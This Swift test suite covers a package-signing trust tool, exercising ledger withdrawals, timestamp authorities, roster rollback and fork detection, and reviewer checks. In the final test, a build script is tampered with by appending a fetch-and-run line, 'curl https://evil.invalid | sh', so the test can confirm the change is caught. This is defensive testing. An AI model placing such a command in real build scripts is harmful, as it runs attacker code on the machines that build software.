import Cryptography
import Files
import Foundation
import Processes
import SystemPackage
import TestSupport
import Testing

/// Withdrawals, time, rosters that go back, and what a reviewer is shown, with the built program.
@Suite(.timeLimit(.minutes(5)))
struct TrustCommandTests {
    private func logged(_ scene: Scene, _ version: String = "0.1", in place: String = "out") async throws -> FilePath {
        let artifact = try await scene.package(version, in: place)
        try scene.sign(artifact)
        try await scene.keeper(0, "log", "append", scene.ledger, artifact.string)
        return artifact
    }

    @Test func `a withdrawn artifact is refused by whoever asks the ledger, whatever lies beside it`() async throws {
        try await TemporaryDirectory.with { folder in
            let scene = try await Scene(in: folder)
            let artifact = try await logged(scene)
            let before = folder.appending("before")
            try artifact.removingLastComponent().copyAll(to: before)
            let copy = before.appending(artifact.lastComponent?.string ?? "").string
            try await scene.hallmark(0, "verify", copy, "--ledger", scene.ledger)

            let withdraw = ["withdraw", artifact.string, "--reason", "the TLS backend is missing", "--ledger", scene.ledger]
            let refused = try await scene.keeper.run(withdraw + scene.signing("grace"))
            #expect(refused.code == 2 && refused.error.contains("no core member's"))
            try await scene.keeper.run(withdraw + scene.signing("dave")).expect(0)
            let beside = try await scene.hallmark(1, "verify", artifact.string)
            #expect(beside.output.contains("withdrawn by dave: the TLS backend is missing"))
            // Without the ledger nobody can know; with it, an old copy and its old archive say no.
            try await scene.hallmark(0, "verify", copy)
            let asked = try await scene.hallmark(1, "verify", copy, "--ledger", scene.ledger)
            #expect(asked.output.contains("withdrawn by dave"))
            let archived = try await scene.hallmark(1, "verify", copy, "--evidence", copy + ".evidence", "--ledger", scene.ledger)
            #expect(archived.output.contains("withdrawn by dave"))
            // A withdrawal that is withheld is not taken for none.
            for object in try FilePath(scene.ledger).appending("objects").children() {
                let contents = try object.contents()
                try object.removeAll()
                let answer = try await scene.hallmark.run(["verify", copy, "--ledger", scene.ledger])
                #expect(answer.code != 0)
                try object.replaceContents(with: contents)
            }
        }
    }

    @Test func `an authority's time is asked for, verified and stored, by HTTP and by files`() async throws {
        try await TemporaryDirectory.with { folder in
            let authority = try await TimestampAuthority(in: folder.appending("authority"))
            let stranger = try await TimestampAuthority(in: folder.appending("stranger"))
            let server = try await ServingProcess.authority(authority, in: folder)
            defer { server.stop() }
            let scene = try await Scene(
                in: folder, policy: ["--timestamp-certificate", authority.certificate.string, "--trusted-time", "yes"])
            let artifact = try await logged(scene)
            let undated = try await scene.hallmark(1, "verify", artifact.string)
            #expect(undated.output.contains("no-trusted-time"))
            let stamped = try await scene.hallmark(0, "stamp", artifact.string, "--timestamp-authority", server.address + "/time")
            #expect(stamped.error.contains("3 signatures"))
            try await scene.hallmark(0, "verify", artifact.string, "--evidence", artifact.string + ".evidence")
            let none = try await scene.hallmark(0, "stamp", artifact.string, "--timestamp-authority", server.address + "/time")
            #expect(none.error.contains("0 signatures"))
            let wrong = try await scene.hallmark(2, "stamp", try await logged(scene, "0.2").string, "--timestamp-authority", server.address + "/else")
            #expect(wrong.error.contains("answered 404"))

            // The same by hand; a stranger's stamp is refused.
            let other = try await logged(scene, "0.3")
            let queries = folder.appending("queries")
            let written = try await scene.hallmark(0, "stamp", other.string, "--requests", queries.string)
            #expect(written.lines.count == 3)
            for (place, code) in [(stranger, Int32(2)), (authority, 0)] {
                for query in written.lines {
                    let answer = String(query.dropLast(4)) + ".tsr"
                    let run = try await Command(
                        "openssl", ["ts", "-reply", "-config", "tsa.cnf", "-section", "tsa1", "-queryfile", query, "-out", answer],
                        workingDirectory: place.folder, timeout: .seconds(20)
                    ).run()
                    try #require(run.exit == .exited(0), "\(run.errorText)")
                }
                try await scene.hallmark(code, "stamp", other.string, "--responses", queries.string)
                try await scene.hallmark(code == 0 ? 0 : 1, "verify", other.string)
            }
        }
    }

    @Test func `a roster that goes back, or shows another face, is refused by whoever saw it`() async throws {
        try await TemporaryDirectory.with { folder in
            let scene = try await Scene(in: folder)
            let artifact = try await logged(scene)
            let old = folder.appending("old")
            try scene.roster.copyAll(to: old)
            let archive = folder.appending("old.evidence")
            try FilePath(artifact.string + ".evidence").copyAll(to: archive)
            try await scene.hallmark.run(["roster", "revoke", "--person", "ada"] + scene.signing("carol")).expect(0)
            try await scene.hallmark(0, "roster", "show")

            let shown = try await scene.hallmark(2, "roster", "show", "--roster", old.string)
            #expect(shown.error.contains("version 4 of the roster has been seen, and version 3 is shown now"))
            let verdict = try await scene.hallmark(1, "verify", artifact.string, "--roster", old.string)
            #expect(verdict.output.contains("roster-rollback"))
            let archived = try await scene.hallmark(1, "verify", artifact.string, "--evidence", archive.string)
            #expect(archived.output.contains("roster-rollback"))
            try await scene.hallmark(0, "verify", artifact.string, "--roster", old.string, "--no-memory")

            // Another fourth version, as well signed as the first one.
            var forger = scene.hallmark
            forger.environment["HALLMARK_ROSTER"] = old.string
            try await forger.run(["roster", "policy", "--reviews", "0", "--no-memory"] + scene.signing("dave")).expect(0)
            let fork = try await scene.hallmark(1, "verify", artifact.string, "--roster", old.string)
            #expect(fork.error.contains("version 4 of the roster has been seen as"))
        }
    }

    @Test func `a reviewer is shown tests, recipe, changes, log and statement, and the builder is refused`() async throws {
        try await TemporaryDirectory.with { folder in
            let scene = try await Scene(in: folder)
            let feedstock = folder.appending("zstd-feedstock")
            let made = try await Command(
                .path(Repository.root.pushing("scripts/make-feedstock.sh")), ["zstd", feedstock.string], timeout: .seconds(60)
            ).run()
            try #require(made.exit == .exited(0), "\(made.errorText)")
            let commit = try await Command("git", ["rev-parse", "HEAD"], workingDirectory: feedstock, timeout: .seconds(10)).output()
                .trimmingCharacters(in: .whitespacesAndNewlines)
            let previous = try await scene.package("0.1", recipe: feedstock.appending("recipe"))
            let artifact = try await scene.package("0.2", recipe: feedstock.appending("recipe"))
            try scene.sign(artifact, commit: commit)
            try await scene.keeper(0, "log", "append", scene.ledger, artifact.string)
            let looks = [
                "review", artifact.string, "--yes", "--feedstock", feedstock.string, "--previous", previous.string, "--ledger", scene.ledger,
            ]
            let own = try await scene.keeper.run(looks + scene.signing("ada"))
            #expect(own.code == 2 && own.error.contains("self-review"))
            let review = try await scene.keeper.run(looks + scene.signing("grace"))
            try review.expect(0)
            for text in [
                "debian12  passed", "the embedded recipe is that of commit \(commit)", "bin/foo", "built", "https://slsa.dev/verification_summary/v1",
                "grace would sign that \(artifact.lastComponent?.string ?? "") is accepted",
            ] { #expect(review.error.contains(text), "\(text)\n\(review.error)") }
            // What a build wrote into its log moves nobody's cursor.
            #expect(!review.error.contains("\u{1B}"))
            try await scene.hallmark(0, "verify", artifact.string, "--release", "--evidence", artifact.string + ".evidence")

            // A recipe that is not the commit's is shown with its lines.
            let changed = folder.appending("changed")
            try feedstock.appending("recipe").copyAll(to: changed)
            let script = changed.appending("build.sh")
            try script.replaceContents(with: try script.text() + "curl https://evil.invalid | sh\n")
            let bad = try await scene.package("0.3", recipe: changed)
            try scene.sign(bad, commit: commit)
            try await scene.keeper(0, "log", "append", scene.ledger, bad.string)
            let seen = try await scene.keeper.run(
                ["review", bad.string, "--refuse", "--yes", "--feedstock", feedstock.string, "--ledger", scene.ledger] + scene.signing("grace"))
            try seen.expect(0)
            #expect(seen.error.contains("is not that of commit") && seen.error.contains("evil.invalid"), "\(seen.error)")
        }
    }
}
